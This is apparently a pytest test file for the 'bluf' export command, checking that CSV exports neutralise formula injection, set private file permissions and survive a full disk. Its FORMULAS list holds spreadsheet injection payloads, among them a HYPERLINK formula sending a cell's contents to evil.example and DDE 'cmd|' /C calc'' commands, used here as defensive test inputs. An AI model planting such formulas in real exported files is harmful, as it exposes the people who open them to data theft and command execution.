"""Export files are safe to open and safe to write: CSV cells cannot run as spreadsheet
formulas, files are private unless --mode says otherwise, and a full disk leaves the
previous file as it was with no temporary file behind. Real ``bluf`` processes, a real
tmpfs."""

from __future__ import annotations

import csv
import io
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from annotate.workspace import open_workspace

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]


def bluf(db, *args: str, **kw) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "tui", "--db", str(db), *args], capture_output=True, text=True, **kw)


def _tag_with_notes(db, notes: list[str]) -> None:
    ws = open_workspace(db, seed=False)
    try:
        ws.analyze()
        spots = [(s.id, i) for s in ws.sources() for i, q in enumerate(ws.quotes(s.id)) if q.actor_id][: len(notes)]
        assert len(spots) == len(notes)
    finally:
        ws.close()
    for (sid, i), note in zip(spots, notes):
        p = bluf(db, "tag", sid, str(i + 1), "hawkish", f"--note={note}")
        assert p.returncode == 0, p.stderr


def test_csv_cells_that_start_like_a_formula_are_text(ws_path, tmp_path):
    _tag_with_notes(ws_path, FORMULAS)
    out = tmp_path / "stances.csv"
    p = bluf(ws_path, "export", "--format", "csv", "-o", str(out))
    assert p.returncode == 0, p.stderr
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert sorted(r["note"] for r in rows) == sorted("'" + f for f in FORMULAS)
    for r in rows:  # every other cell either is plain text or was neutralised too
        for k, v in r.items():
            assert not v.startswith(("=", "+", "-", "@", "\t", "\r")), (k, v)
        assert r["start"].isdigit() and r["end"].isdigit()  # numbers stay numbers
    assert bluf(ws_path, "export", "--format", "csv").stdout == out.read_text(encoding="utf-8")


def test_cell_neutralises_tab_and_carriage_return_and_leaves_the_rest():
    from annotate.export.stances_csv import cell

    assert cell("\t=1+1") == "'\t=1+1"
    assert cell("\r=1+1") == "'\r=1+1"  # neutralised (the CR itself is dropped from the document)
    assert cell("\x1b[2J=1") == "'=1" and cell("\x1b[2Jplain") == "plain"
    assert cell("a = b - c") == "a = b - c" and cell("") == "" and cell(12) == 12


def test_export_files_are_private_unless_mode_says_otherwise(ws_path, tmp_path):
    old = os.umask(0o022)
    try:
        plain, shared = tmp_path / "brief.md", tmp_path / "shared.md"
        plain.write_text("old\n", encoding="utf-8")
        plain.chmod(0o644)
        assert bluf(ws_path, "export", "-o", str(plain)).returncode == 0
        assert stat.S_IMODE(plain.stat().st_mode) == 0o600 and plain.read_text(encoding="utf-8").startswith("# ")
        assert bluf(ws_path, "export", "--format", "json", "--mode", "0640", "-o", str(shared)).returncode == 0
        assert stat.S_IMODE(shared.stat().st_mode) == 0o640
        bad = bluf(ws_path, "export", "--mode", "0999", "-o", str(tmp_path / "x.md"))
        assert bad.returncode == 2 and bad.stderr.splitlines() == ["bluf: export: argument --mode: '0999' is not an octal mode like 0600; see `bluf export --help`"]
        assert not (tmp_path / "x.md").exists()
        alone = bluf(ws_path, "export", "--mode", "0644")
        assert alone.returncode == 1 and alone.stderr == "bluf: --mode sets the permissions of a file: give -o FILE too\n"
    finally:
        os.umask(old)


def test_a_symlinked_export_path_is_written_through(ws_path, tmp_path):
    target = tmp_path / "real.md"
    target.write_text("old\n", encoding="utf-8")
    link = tmp_path / "link.md"
    link.symlink_to(target)
    assert bluf(ws_path, "export", "-o", str(link)).returncode == 0
    assert link.is_symlink() and target.read_text(encoding="utf-8").startswith("# ")


@pytest.fixture
def small_disk(tmp_path):
    """A real 64 KiB tmpfs (root only)."""
    if os.getuid() != 0:
        pytest.skip("mounting a tmpfs needs root")
    d = tmp_path / "disk"
    d.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(d)], check=True)
    try:
        yield d
    finally:
        subprocess.run(["umount", str(d)], check=True)


def test_a_full_disk_leaves_the_previous_export_and_no_litter(ws_path, small_disk):
    prev = small_disk / "workspace.json"
    prev.write_bytes(b'{"previous": true}\n')
    p = bluf(ws_path, "export", "--format", "json", "-o", str(prev))  # the seeds' JSON is over 64 KiB
    assert p.returncode == 1
    assert p.stderr.strip().splitlines() == [f"bluf: {prev}: not written (no space left on the device); the previous file is unchanged"]
    assert prev.read_bytes() == b'{"previous": true}\n'
    assert sorted(x.name for x in small_disk.iterdir()) == ["workspace.json"]
    new = small_disk / "new.jsonl"
    p = bluf(ws_path, "export", "--format", "jsonl", "-o", str(new))
    assert p.returncode == 1 and "no file was created" in p.stderr and "Traceback" not in p.stderr
    assert sorted(x.name for x in small_disk.iterdir()) == ["workspace.json"]  # no 0-byte file, no temp file
    ok = bluf(ws_path, "export", "--format", "csv", "-o", str(small_disk / "s.csv"))  # what fits is written
    assert ok.returncode == 0, ok.stderr


def test_an_unwritable_export_path_is_one_line(ws_path, tmp_path):
    for target in (tmp_path, tmp_path / "no" / "such" / "dir.md"):
        p = bluf(ws_path, "export", "-o", str(target))
        assert p.returncode == 1 and "Traceback" not in p.stderr
        assert len(p.stderr.strip().splitlines()) == 1 and str(target) in p.stderr
    assert sorted(x.name for x in tmp_path.iterdir()) == ["ws"]


def test_a_brief_that_could_not_be_written_is_not_remembered_as_made(ws_path, small_disk):
    """The next brief's draft says what changed since the last brief written: one lost to a
    full disk does not count."""
    with open(small_disk / "filler", "wb", buffering=0) as f:  # fill the disk
        try:
            while True:
                f.write(b"x" * 1024)
        except OSError:
            pass
    p = bluf(ws_path, "export", "-o", str(small_disk / "brief.md"))
    assert p.returncode == 1 and "no space left" in p.stderr
    ws = open_workspace(ws_path, seed=False)
    try:
        assert ws.last_export() is None
    finally:
        ws.close()
    assert sorted(x.name for x in small_disk.iterdir()) == ["filler"]


def test_export_to_dev_stdout_goes_to_standard_output(ws_path):
    p = bluf(ws_path, "export", "--format", "csv", "-o", "/dev/stdout")
    assert p.returncode == 0, p.stderr
    assert p.stdout.startswith("tag_id,actor_id,")
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)
